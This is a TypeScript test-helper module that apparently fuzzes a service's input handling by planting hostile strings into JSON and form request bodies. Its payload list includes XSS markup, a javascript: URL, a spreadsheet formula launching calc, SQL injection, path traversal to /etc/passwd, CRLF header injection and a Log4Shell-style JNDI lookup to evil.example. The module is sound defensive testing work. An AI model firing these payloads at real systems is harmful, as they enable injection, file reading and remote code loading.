import { Buffer } from "node:buffer";

/** Values that some later reader might take for more than text. */
export const hostileTexts: readonly (readonly [name: string, text: string])[] = [
  ["a prototype", "__proto__"],
  ["a constructor", "constructor"],
  ["a template", "{{ incident.title }}"],
  ["a template's tag", "{% raw %}"],
  ["markup", "<script>alert(1)</script>"],
  ["a script address", "javascript:alert(1)"],
  ["a spreadsheet formula", "=cmd|' /C calc'!A0"],
  ["SQL", "' or 1=1 --"],
  ["U+0000", "\u0000"],
  ["a lone surrogate", "\ud83d"],
  ["text that turns its direction", "\u202e\u2066"],
  ["a path", "../../etc/passwd"],
  ["a look-up", "$\u007bjndi:ldap://evil.example/a}"],
  ["a header", "line\r\nSet-Cookie: a=b"],
  ["many digits", "9".repeat(400)],
  ["nothing", ""],
];

/** One body for each string value and key of a JSON sample, with the text in its place. */
export function* replaceTexts(body: Uint8Array, text: string): Generator<Buffer> {
  const json = Buffer.from(body).toString("utf8");
  const strings = [...json.matchAll(/"(?:[^"\\]|\\.)*"/g)];
  for (const { 0: found, index } of strings) {
    yield Buffer.from(json.slice(0, index) + JSON.stringify(text) + json.slice(index + found.length));
  }
}

/** The sample, JSON (also inside a text) or a form, with one of its texts, wherever it stands, changed into another. */
export function plantText(body: Uint8Array, from: string, to: string): Buffer {
  const text = Buffer.from(body).toString("utf8");
  if (!text.startsWith("{") && !text.startsWith("[")) {
    return Buffer.from(text.replaceAll(formField(from), () => formField(to)));
  }
  const within = (value: string) => JSON.stringify(JSON.stringify(value)).slice(1, -1);
  const planted = text.replaceAll(JSON.stringify(from), () => JSON.stringify(to));
  return Buffer.from(planted.replaceAll(within(from), () => within(to)));
}

function formField(text: string): string {
  return new URLSearchParams([["", text]]).toString().slice(1);
}
